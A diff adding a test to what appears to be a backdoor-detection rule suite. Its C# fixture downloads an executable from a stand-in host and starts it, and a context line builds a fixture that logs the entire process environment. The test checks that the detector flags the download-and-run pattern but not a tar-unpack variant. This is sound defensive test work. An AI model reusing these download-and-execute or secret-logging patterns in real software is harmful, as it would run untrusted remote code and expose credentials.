@@ -686,3 +686,25 @@ test('one environment variable read with a default and logged is not the whole e
   const whole = one.replace('log.info("region %s", region)', 'log.info("env %s", dict(os.environ))');
   assert.ok(rules('boot.py', whole).includes('backdoor.secret-to-log:4'), rules('boot.py', whole).join());
 });
+
+test('a helper written from a download through a parameter and then started is download-exec (C#); unpacking it is not', () => {
+  const text = [
+    'class Setup {',
+    '  static void Fetch(string url, string target)',
+    '  {',
+    '    using var c = new System.Net.WebClient();',
+    '    c.DownloadFile(url, target);',
+    '  }',
+    '  static void Install(string dir)',
+    '  {',
+    '    var tool = System.IO.Path.Combine(dir, "agent.exe");',
+    '    Fetch("https://cdn.example-tools.top/a", tool);',
+    '    System.Diagnostics.Process.Start(tool);',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('Setup.cs', text).includes('backdoor.download-exec:11'), rules('Setup.cs', text).join());
+  const unpack = text.replace('Process.Start(tool);', 'Process.Start("tar", "xzf " + tool);');
+  assert.deepEqual(rules('Setup.cs', unpack), []);
+});
